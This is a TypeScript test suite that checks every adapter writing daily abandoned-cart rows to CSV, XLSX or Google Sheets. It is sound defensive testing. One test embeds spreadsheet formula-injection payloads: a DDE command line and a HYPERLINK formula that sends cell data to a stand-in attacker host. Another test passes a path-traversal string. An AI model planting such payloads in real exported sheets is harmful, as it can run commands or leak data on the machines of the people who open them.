/** One suite for the Sheet port, run against every adapter (CSV, XLSX, Google Sheets). */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SHEET_HEADER } from '../../src/domain/sheet-row.ts';
import type { Sheet, SheetRow } from '../../src/ports/sheet.ts';

export interface SheetUnderTest {
  readonly sheet: Sheet;
  /** The day's sheet as a spreadsheet would show it, header first; cells as the format types them. */
  readBack(day: string): Promise<unknown[][]>;
  /** Every sheet the adapter left behind (files in the folder, spreadsheets in the Drive folder). */
  countSheets(): Promise<number>;
  close(): Promise<void>;
}

export interface SheetContractOptions {
  readonly name: string;
  make(): Promise<SheetUnderTest>;
  /** How hostile shopper text reads back: unchanged, or behind CSV's neutralising quote. */
  hostileText(text: string): unknown;
  /** Whether a row source failing mid-way leaves that day's previous sheet untouched. */
  readonly atomicReplace: boolean;
}

const DAY = '2026-11-23';
const COL = Object.fromEntries(SHEET_HEADER.map((header, index) => [header, index])) as Record<
  string,
  number
>;
const col = (header: string): number => {
  const index = COL[header];
  if (index === undefined) throw new Error(`no column ${header}`);
  return index;
};

export function sampleRow(i: number, overrides: Partial<SheetRow> = {}): SheetRow {
  return {
    cartId: `c_${i}`,
    email: `shopper${i}@example.com`,
    items: `${(i % 3) + 1} x Linen shirt; 1 x Crème brûlée candle`,
    total: 84.5 + i,
    currency: 'EUR',
    status: i % 2 === 0 ? 'open' : 'bought',
    closedReason: null,
    remindersSent: i % 4,
    savedLink: i % 5 === 0,
    lastActivityAt: new Date(Date.UTC(2026, 10, 23, 7, 58, i % 60)),
    recovered: i % 2 === 1,
    recoveredAt: i % 2 === 1 ? new Date(Date.UTC(2026, 10, 23, 9, 0, 0)) : null,
    link: `https://shop.example/owner/carts/c_${i}`,
    ...overrides,
  };
}

export async function* rowsOf(rows: Iterable<SheetRow>): AsyncGenerator<SheetRow> {
  for (const row of rows) yield row;
}

const range = (n: number, from = 0): number[] => Array.from({ length: n }, (_, i) => from + i);

export function runSheetContract(options: SheetContractOptions): void {
  describe(`Sheet contract: ${options.name}`, () => {
    let subject: SheetUnderTest;
    beforeEach(async () => {
      subject = await options.make();
    });
    afterEach(async () => {
      await subject.close();
    });

    const column = (table: unknown[][], header: string): unknown[] =>
      table.slice(1).map((row) => row[col(header)]);

    it('writes the header, then one row per cart in the order given', async () => {
      const result = await subject.sheet.writeDay(DAY, rowsOf(range(3).map((i) => sampleRow(i))));
      expect(result.rows).toBe(3);
      expect(result.location).not.toBe('');
      const table = await subject.readBack(DAY);
      expect(table[0]).toEqual(SHEET_HEADER);
      expect(column(table, 'Cart')).toEqual(['c_0', 'c_1', 'c_2']);
      expect(column(table, 'Email')).toEqual(range(3).map((i) => `shopper${i}@example.com`));
      expect(column(table, 'Items')).toEqual(range(3).map((i) => sampleRow(i).items));
    });

    it('keeps hostile shopper text as text, never a formula', async () => {
      const hostile = {
        cartId: '+c_1',
        email: '=cmd|" /C calc"!A0',
        items: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
      };
      await subject.sheet.writeDay(DAY, rowsOf([sampleRow(1, hostile)]));
      const [, row] = await subject.readBack(DAY);
      expect(row?.[col('Cart')]).toEqual(options.hostileText(hostile.cartId));
      expect(row?.[col('Email')]).toEqual(options.hostileText(hostile.email));
      expect(row?.[col('Items')]).toEqual(options.hostileText(hostile.items));
    });

    it('replaces the day on a re-run: one sheet, holding the second run', async () => {
      await subject.sheet.writeDay(DAY, rowsOf(range(5).map((i) => sampleRow(i))));
      await subject.sheet.writeDay(DAY, rowsOf(range(2, 100).map((i) => sampleRow(i))));
      expect(await subject.countSheets()).toBe(1);
      const table = await subject.readBack(DAY);
      expect(table).toHaveLength(3);
      expect(column(table, 'Cart')).toEqual(['c_100', 'c_101']);
    });

    it('keeps each day apart', async () => {
      await subject.sheet.writeDay(DAY, rowsOf([sampleRow(1)]));
      await subject.sheet.writeDay('2026-11-24', rowsOf([sampleRow(2)]));
      expect(await subject.countSheets()).toBe(2);
      expect(column(await subject.readBack(DAY), 'Cart')).toEqual(['c_1']);
      expect(column(await subject.readBack('2026-11-24'), 'Cart')).toEqual(['c_2']);
    });

    it('writes just the header for a day without carts', async () => {
      const result = await subject.sheet.writeDay(DAY, rowsOf([]));
      expect(result.rows).toBe(0);
      expect(await subject.readBack(DAY)).toEqual([SHEET_HEADER]);
    });

    it('streams 1,000 rows from an async generator, in order', async () => {
      async function* generate(): AsyncGenerator<SheetRow> {
        for (let i = 0; i < 1000; i += 1) {
          // A real source awaits its database between pages.
          if (i % 100 === 0) await new Promise((resolve) => setImmediate(resolve));
          yield sampleRow(i);
        }
      }
      const result = await subject.sheet.writeDay(DAY, generate());
      expect(result.rows).toBe(1000);
      const table = await subject.readBack(DAY);
      expect(table).toHaveLength(1001);
      expect(column(table, 'Cart')).toEqual(range(1000).map((i) => `c_${i}`));
    });

    it('refuses a day that is not YYYY-MM-DD', async () => {
      await expect(subject.sheet.writeDay('../../etc/x', rowsOf([]))).rejects.toThrow(/not a day/);
    });

    if (options.atomicReplace) {
      it('leaves the previous sheet whole when the row source fails mid-way', async () => {
        await subject.sheet.writeDay(DAY, rowsOf(range(3).map((i) => sampleRow(i))));
        async function* failing(): AsyncGenerator<SheetRow> {
          yield sampleRow(50);
          yield sampleRow(51);
          throw new Error('database went away');
        }
        await expect(subject.sheet.writeDay(DAY, failing())).rejects.toThrow();
        expect(await subject.countSheets()).toBe(1);
        expect(column(await subject.readBack(DAY), 'Cart')).toEqual(['c_0', 'c_1', 'c_2']);
      });
    }
  });
}
